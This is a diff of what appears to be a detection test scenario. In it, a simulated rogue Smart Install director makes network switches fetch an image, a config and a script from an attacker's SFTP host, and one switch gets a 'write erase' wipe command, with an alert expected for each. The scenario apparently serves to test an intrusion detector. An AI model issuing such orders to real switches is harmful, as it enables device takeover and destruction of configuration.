@@ -29,26 +29,24 @@ def bw06_overflow(wire: Wire) -> None:
     tcp.reset()
 
 
-JOINED = ("10.0.1.8", "10.0.1.9", "10.0.1.10", "10.0.1.11")
+JOINED = ("10.0.1.8", "10.0.1.9", "10.0.1.10", "10.0.1.11", "10.0.1.12")
+ORDERED = (
+    *(command(ATTACKER, file="x", device=switch) for switch in JOINED[:3]),
+    *(command(None, device=switch) for switch in JOINED[3:]),
+)
 
 
 @scenario(
     "BW06",
     "malicious",
-    plain=Expect(
-        tuple(command(ATTACKER if n < 3 else None, device=switch, file="x") for n, switch in enumerate(JOINED)),
-        tuple(Alert(1542005065 + n, ATTACKER, switch) for n, switch in enumerate(JOINED)),
-    ),
+    plain=Expect(ORDERED, tuple(Alert(1542005065 + n, ATTACKER, switch) for n, switch in enumerate(JOINED))),
     site=HQ,
-    with_site=Expect(
-        tuple(command(ATTACKER if n < 3 else None, device=switch, file="x") for n, switch in enumerate(JOINED)),
-        tuple(Alert(1542106005 + n, ATTACKER, switch) for n, switch in enumerate(JOINED)),
-    ),
+    with_site=Expect(ORDERED, tuple(Alert(1542106005 + n, ATTACKER, switch) for n, switch in enumerate(JOINED))),
 )
 def bw06_joined_a_rogue_director(wire: Wire) -> None:
     """Switches that join a director of the attacker's get their orders back; one runs another command than copy."""
     url = f"sftp://{ATTACKER}/x"
-    commands = (smi.image(url), smi.config(url), smi.execute(url), smi.copy("write erase"))
+    commands = (smi.image(url), smi.config(url), smi.execute(url), smi.copy("write erase"), discovery(0x1D, 600))
     for switch, order in zip(JOINED, commands, strict=True):
         tcp = Tcp(wire, switch, 50786, ATTACKER, smi.PORT)
         tcp.send(discovery(0x1C, 0x1C))
